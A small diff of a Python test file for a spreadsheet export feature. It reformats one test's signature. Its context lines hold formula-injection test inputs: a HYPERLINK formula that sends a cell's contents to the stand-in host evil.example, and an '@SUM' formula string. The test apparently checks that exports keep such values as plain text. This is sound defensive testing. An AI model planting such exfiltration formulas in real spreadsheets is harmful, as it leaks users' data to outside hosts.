@@ -139,9 +139,7 @@ def test_xlsx_has_a_summary_and_a_sheet_per_rule_ready_to_print(
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'
 
 
-def test_no_export_writes_a_formula_and_text_reads_as_typed(
-    engine: Engine, book: RuleBook
-) -> None:
+def test_no_export_writes_a_formula_and_text_reads_as_typed(engine: Engine, book: RuleBook) -> None:
     units = [("10102", EVIL, "village", "101", "2000-01-01", "", "")]
     events = [("101", "hearing", "2021-02-10", "", "@SUM(1+1)", "", "", "e1")]
     load_county(engine, book, events, units=units)
